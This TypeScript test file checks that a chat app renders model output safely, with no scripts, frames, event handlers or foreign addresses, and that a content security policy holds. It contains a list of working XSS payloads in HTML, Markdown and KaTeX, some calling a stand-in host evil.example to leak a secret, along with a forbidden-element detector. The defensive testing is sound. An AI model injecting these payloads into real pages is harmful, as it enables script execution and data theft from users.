// The text of a model cannot become a script, an element or an address of the page. npm test -- browser/injection
import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { openBrowser, openPage } from './browser.ts';
import { answered, say, serveApp } from './served-app.ts';

const run = 'window.ran=1';

/** Each is tried by itself, then all in one text. A successful attack sets `ran`. */
const attacks: readonly string[] = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object><embed src="javascript:${run}">`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<a href="javascript:${run}" id="click">x</a><form action="javascript:${run}"><button>x</button></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<style>@import 'javascript:${run}'; * { background: url(javascript:${run}) }</style>`,
  '<base href="//evil.example/">',
  `<meta http-equiv="refresh" content="0;url=javascript:${run}"><link rel=import href="data:text/html,x">`,
  `[x](javascript:${run}) [y](JaVaScRiPt:${run}) [z](&#106;avascript:${run}) [w](java\tscript:${run})`,
  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=) [y](vbscript:x) [z](//evil.example/x)`,
  `<javascript:${run}> ![x](javascript:${run}) ![x](data:image/svg+xml,<svg/onload=${run}>)`,
  `![x](x" onerror="${run}) [x](x" onmouseover="${run}) [t]: javascript:${run}\n\n[t]`,
  `![leak](https://evil.example/leak?secret)`,
  `\`\`\`js" onmouseover="${run}\n</code></pre><script>${run}</script>\n\`\`\``,
  `\`\`\`js\n</script><script>${run}</script><img src=x onerror=${run}>\n\`\`\``,
  `$\\href{javascript:${run}}{x}$ $$\\url{javascript:${run}}$$ $\\htmlData{onclick=${run}}{x}$`,
  `$\\includegraphics{javascript:${run}}$ $\\htmlStyle{background:url(//evil.example)}{x}$`,
  `$\\text{<img src=x onerror=${run}>}$`,
  `$</span><img src=x onerror=${run}>$ \\( <script>${run}</script> \\)`,
  '$$" style="background:url(//evil.example)" x="$$',
  `|<img src=x onerror=${run}>|a|\n|-|-|\n|<script>${run}</script>|<b onclick="${run}">x</b>|`,
  `<answer><img src=x onerror=${run}></answer><answer><script>${run}</script></answer>`,
  `<x-x id=createElement name=cookie><a id=document></a><p data-style="background:url(//evil.example)">x</p>`,
];

/** Finds what must never be in an answer, a prompt or a title. */
const forbidden = `(() => {
  const names =
    /^(script|iframe|img|image|object|embed|form|input|style|link|meta|base|animate|details|foreignobject)$/i;
  const places = document.querySelectorAll('.prose, .thinking-text, .final-answer, .prompt-text, .side-item > a');
  const found = [];
  for (const place of places) {
    for (const element of place.querySelectorAll('*')) {
      if (names.test(element.localName)) found.push(element.localName);
      if (element.localName === 'svg' && !element.closest('.katex')) found.push('svg');
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name) || name === 'id' || name === 'name' || name === 'data-style') found.push(name);
        const isAddress = /^(href|src|xlink:href|action|data)$/i.test(name);
        if (isAddress && !/^(https?:|mailto:)/.test(value)) found.push(name + '=' + value);
        if (name === 'style' && /url|expression|import/i.test(value)) found.push(value);
      }
    }
  }
  return { found, ran: window.ran ?? null, places: places.length };
})()`;

const { browser, why } = await openBrowser();
let spoken = '';
const app = await serveApp({ script: () => ({ thinking: spoken, answer: spoken }), contextLength: 65_536 });

after(async () => {
  await browser?.close();
  await app.server.close(0);
});

describe('the text of a model', { skip: why ?? false }, () => {
  test('is never script, frame, image, handler or foreign address', async () => {
    if (browser === null) return;
    const { page, close } = await openPage(browser, app.url);
    const foreign: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(app.url)) foreign.push(request.url());
    });
    const all = [...attacks, attacks.join('\n\n')];
    for (const [i, attack] of all.entries()) {
      spoken = attack;
      if (i === all.length - 1) await page.getByRole('button', { name: 'New conversation' }).click();
      await say(page, attack.slice(0, 4000));
      await answered(page, i === all.length - 1 ? 1 : i + 1);
      if (i === all.length - 1) await page.locator('.thinking-head').click();
      const { found, ran, places } = (await page.evaluate(forbidden)) as {
        found: string[];
        ran: unknown;
        places: number;
      };
      assert.deepEqual([found, ran], [[], null], attack);
      assert.ok(places >= 3);
    }
    await page.locator('.thinking-text').waitFor();
    await page.locator('.katex').first().waitFor({ state: 'attached' });
    assert.deepEqual(await page.evaluate(forbidden).then((seen) => (seen as { found: string[] }).found), []);
    assert.deepEqual(foreign, []);
    await close();
  });

  test('leaves the page only by plain links, and images are links', async () => {
    if (browser === null) return;
    const { page, close } = await openPage(browser, app.url);
    spoken =
      '[a](https://example.org/a) ![b](https://example.org/b.png) <https://example.org/c> [d](/d) $\\frac{1}{2}$';
    await say(page, 'links');
    await answered(page, 1);
    await page.locator('.prose .katex').waitFor();
    const links = await page
      .locator('.prose a')
      .evaluateAll((all) => all.map((link) => ['href', 'rel', 'target'].map((name) => link.getAttribute(name))));
    const rel = 'noopener noreferrer nofollow';
    assert.deepEqual(
      links,
      ['a', 'b.png', 'c'].map((name) => [`https://example.org/${name}`, rel, '_blank']),
    );
    await close();
  });

  test('meets a content security policy that stops what gets through', async () => {
    if (browser === null) return;
    const { page, complaints, close } = await openPage(browser, app.url);
    await page.locator('.composer').waitFor();
    const refused = await page.evaluate(`[
      () => { document.body.innerHTML = '<b>x</b>'; },
      () => document.createElement('img').setAttribute('onerror', 'window.ran = 1'),
      () => { document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/x' })); },
    ].map((act) => { try { act(); return null; } catch (error) { return error.name; } })`);
    assert.deepEqual(refused, ['TypeError', 'TypeError', null]); // the image is not requested: see the complaints
    await page.waitForTimeout(100);
    assert.equal(await page.evaluate('window.ran ?? null'), null);
    assert.ok(
      complaints.some((text) => /evil\.example[\s\S]*Content Security Policy/.test(text)),
      complaints.join('\n'),
    );
    complaints.length = 0;
    await close();
  });
});
